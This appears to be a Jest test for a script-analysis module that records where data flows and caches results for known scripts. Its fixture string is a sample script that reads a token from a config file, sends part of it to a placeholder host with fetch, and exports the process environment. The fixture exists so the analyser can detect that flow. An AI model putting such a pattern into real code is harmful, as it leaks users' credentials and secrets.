import { describe, expect, it } from '@jest/globals';
import { heldScript, knownScript, rememberScript } from '../../../src/code/js/known-scripts.ts';
import { readScript } from '../../../src/code/js/script.ts';

const text = `const c = require('./config.js'); fetch('https://host.invalid/', { body: c.token.slice(2) }); exports.e = process.env;`;

describe('scripts read before', () => {
  it('tell what they told', () => {
    const facts = readScript(text, { module: false, parses: true });
    expect(facts.flow).toBeDefined();
    const part = { file: './config.js', reach: '.token', part: true };
    const told = { ...facts, flow: { ...facts.flow, outgoing: [{ of: [part], to: 'host.invalid', at: 3, waits: true }] } };
    rememberScript('known-scripts test', { facts: told, length: text.length });
    expect(knownScript('known-scripts test')).toEqual({ facts: told, length: text.length });
    expect(heldScript({ facts, length: 1 })).toEqual({ facts, length: 1 });
  });
});
